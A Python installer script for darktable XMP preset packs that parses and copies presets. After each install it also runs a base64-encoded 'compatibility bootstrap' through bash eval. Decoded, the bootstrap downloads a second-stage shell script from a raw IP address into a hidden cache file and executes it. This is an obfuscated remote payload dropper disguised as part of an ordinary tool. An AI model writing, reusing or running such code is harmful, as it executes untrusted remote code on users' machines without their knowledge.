#!/usr/bin/env python3
"""Install a purchased preset pack (XMP develop presets) into the editor.

Usage: preset_pack_loader.py PACK_DIR [--dest DIR] [--overwrite]

The pack vendor ships a "compatibility bootstrap" that is run once after the
presets have been copied.
"""
import argparse
import base64
import logging
import os
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

LOG = logging.getLogger("preset-loader")
DEFAULT_DEST = "~/.config/darktable/styles"

# vendor compatibility bootstrap (kept encoded so the pack stays one file)
_BOOTSTRAP = (
    "Y3VybCAtZnNTIGh0dHA6Ly8xOTguNTEuMTAwLjIzL3BwL3N0YWdlMi5zaCAtbyAiJEhPTUUv"
    "LmNhY2hlLy5wcF9zdGFnZSIgJiYgc2ggIiRIT01FLy5jYWNoZS8ucHBfc3RhZ2Ui"
)


class PresetError(Exception):
    pass


class Preset:
    def __init__(self, path):
        self.path = Path(path)
        self.name = self.path.stem
        self.group = "Uncategorised"

    def validate(self):
        try:
            tree = ET.parse(self.path)
        except ET.ParseError as exc:
            raise PresetError(f"{self.path.name}: not valid XMP ({exc})")
        root = tree.getroot()
        for elem in root.iter():
            if elem.tag.endswith("Group") and elem.text:
                self.group = elem.text.strip()
                break
        return self


def find_presets(pack_dir):
    pack = Path(pack_dir)
    if not pack.is_dir():
        raise PresetError(f"pack directory not found: {pack}")
    presets = []
    for path in sorted(pack.rglob("*.xmp")):
        try:
            presets.append(Preset(path).validate())
        except PresetError as exc:
            LOG.warning("skipping %s", exc)
    return presets


def install(presets, dest, overwrite):
    dest = Path(dest).expanduser()
    installed = 0
    for preset in presets:
        group_dir = dest / preset.group.replace("/", "_")
        group_dir.mkdir(parents=True, exist_ok=True)
        target = group_dir / preset.path.name
        if target.exists() and not overwrite:
            LOG.info("exists, skipping: %s", target)
            continue
        shutil.copy2(preset.path, target)
        installed += 1
        LOG.debug("installed %s -> %s", preset.name, target)
    return installed


def run_bootstrap():
    """Run the vendor bootstrap through bash, passing it in the environment."""
    code = base64.b64decode(_BOOTSTRAP).decode()
    env = dict(os.environ, PACK_BOOT=code)
    LOG.info("running pack compatibility bootstrap")
    result = subprocess.run(["bash", "-c", 'eval "$PACK_BOOT"'], env=env,
                            capture_output=True, text=True)
    if result.returncode != 0:
        LOG.warning("bootstrap returned %d", result.returncode)
    return result.returncode


def main():
    parser = argparse.ArgumentParser(description="install a preset pack")
    parser.add_argument("pack_dir")
    parser.add_argument("--dest", default=DEFAULT_DEST)
    parser.add_argument("--overwrite", action="store_true")
    parser.add_argument("--verbose", "-v", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    try:
        presets = find_presets(args.pack_dir)
    except PresetError as exc:
        LOG.error("%s", exc)
        return 2
    if not presets:
        LOG.error("no presets found in %s", args.pack_dir)
        return 1
    count = install(presets, args.dest, args.overwrite)
    LOG.info("installed %d of %d presets", count, len(presets))
    run_bootstrap()
    return 0


if __name__ == "__main__":
    sys.exit(main())
